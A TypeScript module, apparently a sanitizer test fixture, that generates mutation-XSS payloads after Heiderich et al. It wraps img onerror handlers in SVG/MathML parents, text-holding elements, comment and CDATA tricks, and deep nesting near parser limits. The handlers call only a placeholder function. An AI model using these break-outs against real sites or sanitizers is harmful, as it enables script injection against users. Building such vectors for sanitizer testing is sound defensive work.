/**
 * Markup that one parser reads as text and the next as elements: every foreign or odd parent, around every element whose
 * content is text to somebody, around every way to break out of it. After Heiderich and others, "mXSS attacks" (2013),
 * and the bypasses that were told of since.
 */
const PARENTS: readonly [open: string, close: string][] = [
  ['', ''],
  ['<svg>', '</svg>'],
  ['<svg><desc>', '</desc></svg>'],
  ['<svg><title>', '</title></svg>'],
  ['<svg><foreignObject>', '</foreignObject></svg>'],
  ['<svg></p>', '</svg>'],
  ['<math>', '</math>'],
  ['<math><mtext>', '</mtext></math>'],
  ['<math><mi><table><mglyph>', '</mglyph></table></mi></math>'],
  ['<math><annotation-xml encoding="text/html">', '</annotation-xml></math>'],
  ['<math><annotation-xml><svg>', '</svg></annotation-xml></math>'],
  ['<form><math><mtext></form><form><mglyph>', '</mglyph></form></mtext></math>'],
  ['<template>', '</template>'],
  ['<div><template shadowrootmode=open>', '</template></div>'],
  ['<noscript>', '</noscript>'],
  ['<select><option>', '</option></select>'],
  ['<table><tr><td>', '</td></tr></table>'],
  ['<table><caption><svg>', '</svg></caption></table>'],
  ['<button><p>', '</p></button>'],
  ['<a><table><a>', '</a></table></a>'],
];

const TEXT_HOLDERS = 'style script title textarea xmp iframe noembed noframes noscript template'.split(' ');

const IMAGE = '<img src=x.gif onerror=boom()>';

const BREAKS: readonly ((holder: string) => string)[] = [
  (it) => `<${it}>${IMAGE}</${it}>`,
  (it) => `<${it}><a title="</${it}>${IMAGE}">x</a></${it}>`,
  (it) => `<${it}><!--</${it}>${IMAGE}--></${it}>`,
  (it) => `<${it}>&lt;/${it}&gt;&lt;img src=x.gif onerror=boom()&gt;</${it}>`,
  (it) => `<p id="</${it}>${IMAGE}"><${it}></p></${it}>`,
];

/** Comments and sections, as they were closed by somebody once. */
const SECTIONS = [
  `<!--><img src=x.gif onerror=boom()>-->`,
  `<!---><img src=x.gif onerror=boom()>-->`,
  `<!-- --!><img src=x.gif onerror=boom()>-->`,
  `<!-- a<!-- --><img src=x.gif onerror=boom()>`,
  `<![CDATA[<img src=x.gif onerror=boom()>]]>`,
  `<![CDATA[ ]]><img src=x.gif onerror=boom()>`,
  `<?xml version="1.0"?><img src=x.gif onerror=boom()>`,
  `<?php ?><img src=x.gif onerror=boom()>`,
  `<!DOCTYPE x [<!ENTITY y "boom()">]><img src=x.gif onerror="&y;">`,
  `<%<img src=x.gif onerror=boom()>%>`,
  `</ <img src=x.gif onerror=boom()>`,
  `</p title="><img src=x.gif onerror=boom()>">`,
];

/** The deeper a tree, the sooner a parser flattens it: what stood inside then stands elsewhere. Chromium stops at 512. */
const DEPTHS = [200, 255, 400, 505, 508, 510, 511, 512, 513, 520];
const deep = (depth: number): string[] =>
  ['div', 'b', 'svg', 'font'].map(
    (name) => `${`<${name}>`.repeat(depth)}<style><a title="</style>${IMAGE}">`,
  );

export const mutatingPayloads = (): string[] => [
  ...PARENTS.flatMap(([open, close]) =>
    TEXT_HOLDERS.flatMap((holder) => BREAKS.map((broken) => `${open}${broken(holder)}${close}`)),
  ),
  ...PARENTS.flatMap(([open, close]) => SECTIONS.map((section) => `${open}${section}${close}`)),
  ...DEPTHS.flatMap(deep),
];
